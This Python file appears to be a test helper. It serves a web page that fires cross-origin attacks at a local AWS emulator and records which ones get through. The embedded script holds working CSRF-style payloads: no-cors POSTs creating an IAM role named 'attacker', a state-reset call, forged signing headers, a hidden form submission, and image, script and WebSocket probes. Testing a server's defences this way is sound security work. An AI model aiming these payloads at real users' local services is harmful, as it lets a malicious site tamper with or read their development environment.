"""A web page that attacks the local AWS, on a server of its own."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# Each attack needs no permission of the browser: no preflight request, or a preflight request that a server with
# `Access-Control-Allow-Origin: *` answers. The functions `attack` resolve once the browser has sent the request.
_PAGE = """<!doctype html><title>attacks</title><iframe name="sink"></iframe><script>
const target = TARGET;
const wait = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
const signed = key => ({Authorization:
  `AWS4-HMAC-SHA256 Credential=${key}/20260301/us-east-1/iam/aws4_request, SignedHeaders=host, Signature=0`});
const createRole = new URLSearchParams({Action: "CreateRole", Version: "2010-05-08", RoleName: "attacker",
  AssumeRolePolicyDocument: "{}"});
const attacks = {
  "simple request": () => fetch(target, {method: "POST", mode: "no-cors", body: createRole}),
  "reset": () => fetch(target + "/_ministack/reset", {method: "POST", mode: "no-cors"}),
  "control API": () => fetch(target + "/_feedbackctl/schedules", {method: "POST", mode: "no-cors", body: "null"}),
  "read": () => fetch(target + "/_feedbackctl/suppression-list").then(response => response.text()),
  "preflight": () => fetch(target + "/_feedbackctl/sandbox", {method: "PUT", body: "true"}),
  ...Object.fromEntries(["test", "local", "123456789012", ""].map(key => ["key " + key,
    () => fetch(target, {method: "POST", headers: signed(key), body: createRole})])),
  "form": async () => {
    const form = document.createElement("form");
    Object.assign(form, {action: target, method: "POST", target: "sink"});
    for (const [name, value] of createRole) {
      form.append(Object.assign(document.createElement("input"), {type: "hidden", name, value}));
    }
    document.body.append(form);
    form.submit();
    await wait(500);
  },
  "image": () => new Promise(resolve => {
    const image = new Image();
    image.onload = image.onerror = () => resolve(image.naturalWidth);
    image.src = target + "/_feedbackctl/state";
  }),
  "script": () => new Promise((resolve, reject) => {
    const script = document.createElement("script");
    script.onload = () => resolve();
    script.onerror = () => reject(new Error("refused"));
    script.src = target + "/_feedbackctl/state";
    document.body.append(script);
  }),
  "websocket": () => new Promise((resolve, reject) => {
    const socket = new WebSocket(target.replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("refused"));
  }),
};
(async () => {
  const results = {};
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      const result = await attack();
      results[name] = result instanceof Response ? (result.type === "opaque" ? "sent" : "answered") : `${result}`;
    } catch (error) {
      results[name] = "refused";
    }
  }
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


@dataclass
class HostilePage:
    """The page. `results` are the results of its attacks by name, once `done` is set."""

    port: int = 0
    results: dict[str, str] = field(default_factory=dict)
    done: threading.Event = field(default_factory=threading.Event)


@contextmanager
def serve_hostile_page(target: str) -> Iterator[HostilePage]:
    """Serve the page that attacks the server at the URL `target`."""
    page = HostilePage()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._send(_PAGE.replace("TARGET", json.dumps(target)))

        def do_POST(self) -> None:
            page.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            page.done.set()
            self._send("")

        def _send(self, body: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *_: object) -> None:
            """Log nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        page.port = server.server_port
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield page
        server.shutdown()
